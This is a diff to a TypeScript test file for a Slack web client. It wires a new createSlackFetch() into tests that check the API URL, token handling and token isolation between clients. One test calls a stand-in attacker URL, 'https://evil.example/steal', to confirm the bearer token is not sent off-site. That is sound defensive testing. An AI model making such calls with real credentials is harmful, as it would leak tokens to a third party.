@@ -4,6 +4,7 @@ import type { AddressInfo } from 'node:net';
 import { afterEach, describe, expect, test, vi } from 'vitest';
 import { classifyError } from '../../src/slack/classify.ts';
 import type { SlackClient } from '../../src/slack/slack-client.ts';
+import { createSlackFetch } from '../../src/slack/slack-fetch.ts';
 import { createWebClient } from '../../src/slack/web-client.ts';
 import { NOON } from './sample-video.ts';
 
@@ -25,7 +26,11 @@ async function listen(listener: RequestListener): Promise<string> {
 }
 
 async function postTo(slackApiUrl: string) {
-  const client: SlackClient = createWebClient({ token: TOKEN, slackApiUrl });
+  const client: SlackClient = createWebClient({
+    fetch: createSlackFetch(),
+    token: TOKEN,
+    slackApiUrl,
+  });
   const content = { channel: 'C1', text: 'a script', blocks: [] };
   const metadata = { event_type: 'x', event_payload: { video_id: 'v' } };
   const args = { ...content, metadata, unfurl_links: false, unfurl_media: false };
@@ -44,7 +49,11 @@ test('the address of the API needs no slash at its end, and the token goes there
   });
   await postTo(`http://${host}/api`);
   await postTo(`http://${host}/api/`);
-  await createWebClient({ token: TOKEN, slackApiUrl: `http://${host}/api` })
+  await createWebClient({
+    fetch: createSlackFetch(),
+    token: TOKEN,
+    slackApiUrl: `http://${host}/api`,
+  })
     .apiCall('https://evil.example/steal')
     .catch(() => {});
   expect(seen).toEqual([
@@ -61,7 +70,7 @@ test('two clients never share a token', async () => {
     response.end('{"ok":true}');
   });
   const clients = ['one', 'two'].map((token) =>
-    createWebClient({ token, slackApiUrl: `http://${host}/` }),
+    createWebClient({ fetch: createSlackFetch(), token, slackApiUrl: `http://${host}/` }),
   );
   for (const client of clients) await client.auth.test();
   expect(tokens).toEqual(['Bearer one', 'Bearer two']);
